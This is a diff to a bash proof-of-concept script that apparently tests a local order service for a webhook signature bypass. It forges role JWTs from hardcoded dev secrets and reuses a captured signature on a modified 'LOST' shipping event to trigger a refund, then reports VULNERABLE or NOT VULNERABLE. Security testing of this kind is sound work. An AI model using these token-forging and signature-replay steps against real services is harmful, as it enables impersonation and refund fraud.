@@ -1,16 +1,39 @@
 #!/bin/bash
 #
-# attack.sh — webhook signature bypass via JSON canonicalization flaw
+# attack.sh — webhook signature bypass: reuse a captured signature with a modified status
 #
-# Usage: ./attack.sh [base_url] [webhook_secret]
+# Usage: ./attack.sh [base_url] [webhook_secret] [jwt_secret]
+#
+# API calls are authenticated with HS256 tokens minted from the service's
+# AUTH_JWT_SECRET; webhooks are signed in the "t=<ts>,v1=<hmac>" format
+# (HMAC-SHA256 over "<ts>.<raw body>"). Defaults are the docker-compose.yml values.
 #
 
 set -euo pipefail
 
 BASE_URL="${1:-http://localhost:8080}"
 WEBHOOK_SECRET="${2:-super-secret-webhook-key-2024}"
+JWT_SECRET="${3:-dev-only-jwt-secret-change-me-0123456789}"
 MAX_RETRIES=5
 
+b64url() { openssl base64 -A | tr '+/' '-_' | tr -d '='; }
+
+# mint_token <claims json> — prints an HS256 JWT signed with JWT_SECRET
+mint_token() {
+    local header payload sig
+    header=$(printf '%s' '{"alg":"HS256","typ":"JWT"}' | b64url)
+    payload=$(printf '%s' "$1" | b64url)
+    sig=$(printf '%s' "$header.$payload" | openssl dgst -sha256 -hmac "$JWT_SECRET" -binary | b64url)
+    printf '%s.%s.%s' "$header" "$payload" "$sig"
+}
+
+# sign_webhook <timestamp> <raw body> — prints the X-Webhook-Signature value
+sign_webhook() {
+    local sig
+    sig=$(printf '%s.%s' "$1" "$2" | openssl dgst -sha256 -hmac "$WEBHOOK_SECRET" 2>/dev/null | awk '{print $NF}')
+    printf 't=%s,v1=%s' "$1" "$sig"
+}
+
 echo ""
 echo "=== Webhook Signature Bypass Attack ==="
 echo "Target: $BASE_URL"
@@ -22,23 +45,30 @@ if ! curl -sf "$BASE_URL/health" > /dev/null 2>&1; then
     exit 1
 fi
 
+EXP=$(( $(date +%s) + 3600 ))
+CUSTOMER="Authorization: Bearer $(mint_token "{\"sub\":\"victim_user\",\"role\":\"customer\",\"exp\":$EXP}")"
+FULFILLMENT="Authorization: Bearer $(mint_token "{\"sub\":\"warehouse_1\",\"role\":\"fulfillment\",\"exp\":$EXP}")"
+CARRIER="Authorization: Bearer $(mint_token "{\"sub\":\"carrier_1\",\"role\":\"carrier\",\"exp\":$EXP}")"
+PAYMENT="Authorization: Bearer $(mint_token "{\"sub\":\"psp_1\",\"role\":\"payment\",\"exp\":$EXP}")"
+
 # step 1: create order
 RESP=$(curl -s -X POST "$BASE_URL/orders" \
-    -H "Content-Type: application/json" \
-    -d '{"customer_id":"victim_user","items":[{"product_id":"laptop-01","quantity":1,"price":1299.99}]}')
+    -H "$CUSTOMER" -H "Content-Type: application/json" \
+    -d '{"customer_id":"victim_user","items":[{"product_id":"laptop-01","quantity":1,"price":{"amount":129999,"currency":"EUR"}}]}')
 
 ORDER_ID=$(echo "$RESP" | jq -r '.order_id // empty')
 if [ -z "$ORDER_ID" ]; then
-    echo "ERROR: could not create order"
+    echo "ERROR: could not create order: $RESP"
     exit 1
 fi
-TOTAL=$(echo "$RESP" | jq -r '.total')
-echo "1. Created order $ORDER_ID (total=\$$TOTAL)"
+TOTAL=$(echo "$RESP" | jq -r '"\(.total.amount / 100) \(.total.currency)"')
+echo "1. Created order $ORDER_ID (total=$TOTAL)"
 
-# step 2: pay
+# step 2: checkout and pay
+curl -s -o /dev/null -X POST "$BASE_URL/orders/$ORDER_ID/checkout" -H "$CUSTOMER"
 for attempt in $(seq 1 $MAX_RETRIES); do
     PAY_CODE=$(curl -s -o /dev/null -w "%{http_code}" -X POST "$BASE_URL/orders/$ORDER_ID/pay" \
-        -H "Content-Type: application/json" \
+        -H "$PAYMENT" -H "Content-Type: application/json" \
         -d '{"payment_id":"pay_001"}')
     [ "$PAY_CODE" = "200" ] && break
     sleep 2
@@ -49,9 +79,12 @@ if [ "$PAY_CODE" != "200" ]; then
 fi
 echo "2. Paid order (PENDING_PAYMENT -> PAID)"
 
-# step 3: ship
+# step 3: ship, binding the shipment id the carrier will report on
+SHIPMENT_ID="SH-$(echo $ORDER_ID | cut -c1-8)"
 for attempt in $(seq 1 $MAX_RETRIES); do
-    SHIP_CODE=$(curl -s -o /dev/null -w "%{http_code}" -X POST "$BASE_URL/orders/$ORDER_ID/ship")
+    SHIP_CODE=$(curl -s -o /dev/null -w "%{http_code}" -X POST "$BASE_URL/orders/$ORDER_ID/ship" \
+        -H "$FULFILLMENT" -H "Content-Type: application/json" \
+        -d "{\"shipment_id\":\"${SHIPMENT_ID}\",\"carrier\":\"demo-carrier\"}")
     [ "$SHIP_CODE" = "200" ] && break
     sleep 2
 done
@@ -59,24 +92,19 @@ if [ "$SHIP_CODE" != "200" ]; then
     echo "ERROR: could not ship (HTTP $SHIP_CODE)"
     exit 1
 fi
-echo "3. Shipped order (PAID -> SHIPPING)"
+echo "3. Shipped order (PAID -> SHIPPING, shipment $SHIPMENT_ID)"
 
-# step 4: compute signature over canonical form (excludes status)
+# step 4: the carrier signs a legitimate event; the attacker captures its signature
 TIMESTAMP=$(date +%s)
-SHIPMENT_ID="SH-$(echo $ORDER_ID | cut -c1-8)"
-
-CANONICAL="{\"shipment_id\":\"${SHIPMENT_ID}\",\"order_id\":\"${ORDER_ID}\",\"event_type\":\"status_update\",\"timestamp\":${TIMESTAMP}}"
-SIGNATURE=$(printf '%s' "$CANONICAL" | openssl dgst -sha256 -hmac "$WEBHOOK_SECRET" 2>/dev/null | awk '{print $NF}')
+LEGIT_PAYLOAD="{\"event_id\":\"evt-${SHIPMENT_ID}-1\",\"shipment_id\":\"${SHIPMENT_ID}\",\"order_id\":\"${ORDER_ID}\",\"event_type\":\"status_update\",\"status\":\"IN_TRANSIT\",\"timestamp\":${TIMESTAMP}}"
+SIGNATURE=$(sign_webhook "$TIMESTAMP" "$LEGIT_PAYLOAD")
 
-echo "4. Computed HMAC over canonical form (without status field)"
-echo "   canonical: $CANONICAL"
+echo "4. Captured signature of the legitimate IN_TRANSIT event"
 echo "   signature: $SIGNATURE"
 
 # step 5: send legitimate webhook (IN_TRANSIT)
-LEGIT_PAYLOAD="{\"shipment_id\":\"${SHIPMENT_ID}\",\"order_id\":\"${ORDER_ID}\",\"event_type\":\"status_update\",\"status\":\"IN_TRANSIT\",\"timestamp\":${TIMESTAMP}}"
-
 LEGIT_CODE=$(curl -s -o /dev/null -w "%{http_code}" -X POST "$BASE_URL/webhooks/shipping" \
-    -H "Content-Type: application/json" \
+    -H "$CARRIER" -H "Content-Type: application/json" \
     -H "X-Webhook-Signature: $SIGNATURE" \
     -d "$LEGIT_PAYLOAD")
 
@@ -88,10 +116,10 @@ if [ "$LEGIT_CODE" != "200" ]; then
 fi
 
 # step 6: send ATTACK webhook (LOST) with SAME signature
-ATTACK_PAYLOAD="{\"shipment_id\":\"${SHIPMENT_ID}\",\"order_id\":\"${ORDER_ID}\",\"event_type\":\"status_update\",\"status\":\"LOST\",\"timestamp\":${TIMESTAMP}}"
+ATTACK_PAYLOAD="{\"event_id\":\"evt-${SHIPMENT_ID}-2\",\"shipment_id\":\"${SHIPMENT_ID}\",\"order_id\":\"${ORDER_ID}\",\"event_type\":\"status_update\",\"status\":\"LOST\",\"timestamp\":${TIMESTAMP}}"
 
 ATTACK_RESP=$(curl -s -w "\n%{http_code}" -X POST "$BASE_URL/webhooks/shipping" \
-    -H "Content-Type: application/json" \
+    -H "$CARRIER" -H "Content-Type: application/json" \
     -H "X-Webhook-Signature: $SIGNATURE" \
     -d "$ATTACK_PAYLOAD")
 ATTACK_CODE=$(echo "$ATTACK_RESP" | tail -1)
@@ -102,8 +130,9 @@ REFUND=$(echo "$ATTACK_BODY" | jq -r '.refund_triggered // empty')
 echo "6. Sent webhook status=LOST       -> HTTP $ATTACK_CODE (same signature!)"
 
 # step 7: check final state
-FINAL_STATUS=$(curl -s "$BASE_URL/orders/$ORDER_ID" | jq -r '.status')
-FINAL_REASON=$(curl -s "$BASE_URL/orders/$ORDER_ID" | jq -r '.reason')
+ORDER=$(curl -s "$BASE_URL/orders/$ORDER_ID" -H "$CUSTOMER")
+FINAL_STATUS=$(echo "$ORDER" | jq -r '.status')
+FINAL_REASON=$(echo "$ORDER" | jq -r '.reason')
 
 echo ""
 echo "--- Results ---"
@@ -114,8 +143,8 @@ echo "  Refund:   $REFUND"
 echo ""
 
 if [ "$FINAL_STATUS" = "SHIP_FAILED" ] && [ "$REFUND" = "true" ]; then
-    echo "VULNERABLE: signature bypass succeeded, refund triggered (\$$TOTAL)."
+    echo "VULNERABLE: signature bypass succeeded, refund triggered ($TOTAL)."
 else
     echo "NOT VULNERABLE: attack was blocked."
 fi
-echo ""
\ No newline at end of file
+echo ""